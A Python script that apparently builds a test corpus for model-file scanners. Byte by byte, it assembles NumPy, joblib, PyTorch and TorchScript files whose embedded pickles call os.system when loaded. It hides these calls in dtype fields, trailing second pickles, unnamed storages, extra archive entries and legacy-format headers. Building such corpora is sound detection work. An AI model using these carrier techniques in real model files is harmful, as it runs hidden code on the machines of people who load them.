"""NumPy, joblib and PyTorch files whose pickles run something: built byte by byte after the formats' documentation."""

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib

from assemble import Call, Raw, Ref, assemble, body
from gadgets import FEW, TOUCH, calls
from sample import Family

family = Family("malicious", "carriers", "specification")
SYSTEM = calls("os:system", TOUCH)
BAD = assemble(SYSTEM, 2)


def npy(data, version=(1, 0), descr="'|O'", shape="(1,)", order="False"):
    """https://numpy.org/doc/stable/reference/generated/numpy.lib.format.html"""
    header = f"{{'descr': {descr}, 'fortran_order': {order}, 'shape': {shape}, }}"
    width = 2 if version[0] == 1 else 4
    header = header.ljust(-(-(len(header) + 9 + width) // 64) * 64 - 9 - width) + "\n"
    return b"\x93NUMPY" + bytes(version) + len(header).to_bytes(width, "little") + header.encode() + data


def archive(entries, method=zipfile.ZIP_STORED):
    """A zip whose times are fixed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as file:
        for name, data in entries:
            file.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, method)
    return buffer.getvalue()


# NumPy: object arrays are pickles.
for gadget in FEW:
    for version in ((1, 0), (2, 0), (3, 0)):
        data = npy(assemble(gadget.call, 4), version)
        family.add(f"npy/{gadget.name}-v{version[0]}.npy", data, "npy", f"an array of objects, whose pickle calls {gadget.name}", effect=gadget.effect, load="numpy@scan")
OBJECTS = npy(BAD)
NUMBERS = npy(struct.pack("<2d", 1, 2), descr="'<f8'", shape="(2,)")
family.add("npy/fortran.npy", npy(BAD, order="True"), "npy", "an array of objects in Fortran's order", effect="process", load="numpy@scan")
family.add("npy/structured.npy", npy(BAD, descr="[('a', '<f8'), ('b', '|O')]"), "npy", "a field of objects among others", effect="process", load="numpy@scan")
family.add("npy/nested-field.npy", npy(BAD, descr="[('a', [('b', [('c', '|O')])])]"), "npy", "a field of objects three levels down", effect="process", load="numpy@scan")
family.add("npy/scalar.npy", npy(BAD, shape="()"), "npy", "a single object, of no dimension", effect="process", load="numpy@scan")
family.add("npy/pickle-named.npy", BAD, "pickle", "a pickle under the name of an array: numpy.load() takes it", effect="process", load="numpy@scan")
family.add("npz/pickle-named.npz", BAD, "pickle", "a pickle under the name of an archive: numpy.load() takes it", effect="process", load="numpy@scan")
for method, word in {zipfile.ZIP_STORED: "stored", zipfile.ZIP_DEFLATED: "deflated"}.items():
    for name, entries in {
        "objects": [("a.npy", OBJECTS)],
        "objects-last": [(f"a{number}.npy", NUMBERS) for number in range(9)] + [("z.npy", OBJECTS)],
        "folder": [("deep/er/a.npy", OBJECTS)],
        "no-extension": [("weights", OBJECTS)],
    }.items():
        family.add(f"npz/{name}-{word}.npz", archive(entries, method), "npz", f"an array of objects in the archive: {name}, {word}", effect="process", load="numpy@scan")

# joblib: a pickle with arrays in between, as it is or in one compressed stream.
WRAPPER = Ref("joblib.numpy_pickle", "NumpyArrayWrapper")


def wrapper(dtype, shape, tail):
    """A wrapped array: its state, and behind BUILD the bytes that joblib reads by itself."""
    state = {"subclass": Ref("numpy", "ndarray"), "shape": shape, "order": "C", "dtype": dtype, "allow_mmap": False, "numpy_array_alignment_bytes": 16}
    return Raw(body(WRAPPER, 4) + b")\x81" + body(state, 4) + b"b" + tail)


OBJECT_DTYPE = Raw(body(Call(Ref("numpy", "dtype"), ("O8", False, True)), 4) + body((3, "|", None, None, None, -1, -1, 63), 4) + b"b")
FLOAT_DTYPE = Raw(body(Call(Ref("numpy", "dtype"), ("f8", False, True)), 4) + body((3, "<", None, None, None, -1, -1, 0), 4) + b"b")
JOBLIB = {
    "plain": assemble({"coef": [1.0], "call": SYSTEM}, 4),
    "object-array": assemble(wrapper(OBJECT_DTYPE, (1,), BAD), 4),
    "behind-array": assemble([wrapper(FLOAT_DTYPE, (2,), b"\x0f" + b"\xff" * 15 + struct.pack("<2d", 1, 2)), SYSTEM], 4),
    "subclass": assemble(Raw(body(WRAPPER, 4) + b")\x81" + body({"subclass": SYSTEM}, 4) + b"b"), 4),
}
PACKERS = {
    "": lambda data: data,
    ".z": zlib.compress,
    ".gz": lambda data: gzip.compress(data, mtime=0),
    ".bz2": bz2.compress,
    ".xz": lzma.compress,
    ".lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
}
for name, data in JOBLIB.items():
    for extension, pack in PACKERS.items():
        family.add(f"joblib/{name}.joblib{extension}", pack(data), "joblib", f"{name}: runs a program{', compressed' if extension else ''}", effect="process", load="joblib@scan")
for gadget in FEW:
    family.add(f"joblib/{gadget.name}.joblib", assemble({"model": gadget.call}, 3), "joblib", f"calls {gadget.name}", effect=gadget.effect, load="joblib@scan")

# PyTorch's archive: data.pkl and the storages beside it.
STORAGE = ("storage", Ref("torch", "FloatStorage"), "0", "cpu", 2)
TENSOR = Call(Ref("torch._utils", "_rebuild_tensor_v2"), (Raw(body(STORAGE, 2) + b"Q"), 0, (2,), (1,), False, Call(Ref("collections", "OrderedDict"))))


def torch_zip(data, name="archive", more=(), method=zipfile.ZIP_STORED):
    entries = [(f"{name}/data.pkl", data), (f"{name}/byteorder", b"little"), (f"{name}/data/0", struct.pack("<2f", 1, 2)), *more, (f"{name}/version", b"3\n")]
    return archive(entries, method)


for gadget in FEW:
    for place, value in {
        "first": {"hook": gadget.call, "weight": TENSOR},
        "last": {"weight": TENSOR, "hook": gadget.call},
    }.items():
        data = torch_zip(assemble(value, 2))
        family.add(f"torch/{gadget.name}-{place}.pt", data, "pytorch", f"data.pkl calls {gadget.name}, {place} among the weights", effect=gadget.effect, load="torch@scan-torch")
TORCH = {
    "persistent-id": Raw(body(("storage", Ref("torch", "FloatStorage"), SYSTEM, "cpu", 2), 2) + b"Q"),
    "storage-class": Raw(body(("storage", SYSTEM, "0", "cpu", 2), 2) + b"Q"),
    "rebuild-size": Call(Ref("torch._utils", "_rebuild_tensor_v2"), (Raw(body(STORAGE, 2) + b"Q"), 0, (SYSTEM,), (1,), False, None)),
    "rebuild-hooks": Call(Ref("torch._utils", "_rebuild_tensor_v2"), (Raw(body(STORAGE, 2) + b"Q"), 0, (2,), (1,), False, SYSTEM)),
    "rebuild-from-type": Call(Ref("torch._tensor", "_rebuild_from_type_v2"), (Ref("os", "system"), Ref("torch", "Tensor"), (TOUCH,), {})),
    "rebuild-wrapper": Call(Ref("torch._utils", "_rebuild_parameter"), (TENSOR, False, SYSTEM)),
    "size-of-call": Call(Ref("torch", "Size"), (Call(Ref("builtins", "map"), (Ref("os", "system"), [TOUCH])),)),
    "ordered-dict-items": Call(Ref("collections", "OrderedDict"), (Call(Ref("builtins", "map"), (Ref("os", "system"), [TOUCH])),)),
}
for name, value in TORCH.items():
    family.add(f"torch/{name}.pt", torch_zip(assemble({"w": value}, 2)), "pytorch", f"data.pkl runs a program: {name}", effect="process", load="torch@scan-torch")
family.add("torch/protocol-0.pt", torch_zip(assemble({"x": SYSTEM}, 0)), "pytorch", "data.pkl of protocol 0 runs a program", effect="process", load="torch@scan-torch")
GOOD = assemble({"weight": TENSOR}, 2)
family.add("torch/deflated.pt", torch_zip(BAD, method=zipfile.ZIP_DEFLATED), "pytorch", "data.pkl is compressed, which PyTorch never does", effect="process", unproven="PyTorch's reader takes stored entries; other readers unpack")
family.add("torch/second-pickle.pt", torch_zip(GOOD + BAD), "pytorch", "behind STOP of data.pkl stands a second pickle", effect="process", load="zip-behind", steps=["archive/data.pkl", len(GOOD)])
family.add("torch/extra-pickle.pt", torch_zip(GOOD, more=[("archive/extra/optimizer.pkl", BAD)]), "pytorch", "a second pickle lies beside data.pkl", effect="process", load="zip-entry", steps=["archive/extra/optimizer.pkl"])
family.add("torch/storage-is-pickle.pt", torch_zip(GOOD, more=[("archive/data/1", BAD)]), "pytorch", "a storage that nothing names is a pickle", effect="process", load="zip-entry", steps=["archive/data/1"])
family.add("torch/two-data.pt", torch_zip(GOOD, more=[("other/data.pkl", BAD)]), "pytorch", "two folders have a data.pkl", effect="process", load="zip-entry", steps=["other/data.pkl"])

# PyTorch's old format: five pickles in a row, the storages behind.
MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001
SYS_INFO = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
LEGACY_STORAGE = ("storage", Ref("torch", "FloatStorage"), "7", "cpu", 2, None)
LEGACY_TENSOR = Call(TENSOR.callee, (Raw(body(LEGACY_STORAGE, 2) + b"Q"), *TENSOR.args[1:]))
FIVE = [MAGIC, PROTOCOL, SYS_INFO, {"weight": LEGACY_TENSOR}, ["7"]]
STORAGES = struct.pack("<q2f", 2, 1, 2)
for place, word in enumerate(["magic", "protocol", "system", "object", "keys"]):
    for gadget in FEW[:3]:
        parts = list(FIVE)
        # The value stays what the loader compares with: the call comes first, and is popped.
        value = body(parts[place], 2)
        parts[place] = Raw(body(gadget.call, 2) + b"0" + value)
        data = b"".join(assemble(part, 2) for part in parts) + STORAGES
        family.add(f"torch-legacy/{word}-{gadget.name}.pt", data, "pytorch-legacy", f"pickle {place + 1} of five, {word}, calls {gadget.name}", effect=gadget.effect, load="torch@scan-torch")
whole = b"".join(assemble(part, 2) for part in FIVE)
family.add("torch-legacy/sixth.pt", whole + STORAGES + BAD, "pytorch-legacy", "behind the storages stands a sixth pickle", effect="process", load="pickle-behind", steps=[len(whole + STORAGES)])
family.add("torch-legacy/other-magic.pt", assemble({"weights": SYSTEM}, 2), "pickle", "a plain pickle under PyTorch's name: torch.load() takes it", effect="process", load="torch@scan-torch")


# The oldest format: a tar of three pickles.
def tar(entries):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as file:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            file.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


COUNT = assemble(0, 2)
for place in ("storages", "tensors", "pickle"):
    parts = {"storages": COUNT, "tensors": COUNT, "pickle": assemble({}, 2)} | {place: BAD}
    family.add(f"torch-tar/{place}.pt", tar(parts.items()), "tar", f"the oldest format of PyTorch, a tar: {place} runs a program", effect="process", load="tar", steps=[place])

# TorchScript: more pickles lie in its archive (what its program can do: make_malicious_torchscript.py).
family.add("torchscript/data-pickle.pt", archive([("m/data.pkl", BAD), ("m/code/__torch__.py", b""), ("m/constants.pkl", b"\x80\x02)."), ("m/version", b"3\n")]), "torchscript", "data.pkl of a TorchScript archive runs a program", effect="process", load="zip-entry", steps=["m/data.pkl"])
family.add("torchscript/constants-pickle.pt", archive([("m/data.pkl", GOOD), ("m/code/__torch__.py", b""), ("m/constants.pkl", BAD), ("m/version", b"3\n")]), "torchscript", "constants.pkl runs a program", effect="process", load="zip-entry", steps=["m/constants.pkl"])
family.add("torchscript/debug-pickle.pt", archive([("m/data.pkl", GOOD), ("m/code/__torch__.py", b""), ("m/code/__torch__.py.debug_pkl", BAD), ("m/constants.pkl", b"\x80\x02)."), ("m/version", b"3\n")]), "torchscript", "a debug pickle runs a program", effect="process", load="zip-entry", steps=["m/code/__torch__.py.debug_pkl"])
family.add("torchscript/extra-pickle.pt", archive([("m/data.pkl", GOOD), ("m/code/__torch__.py", b""), ("m/constants.pkl", b"\x80\x02)."), ("m/extra/labels.pkl", BAD), ("m/version", b"3\n")]), "torchscript", "an extra file is a pickle that runs a program", effect="process", load="zip-entry", steps=["m/extra/labels.pkl"])

family.finish()
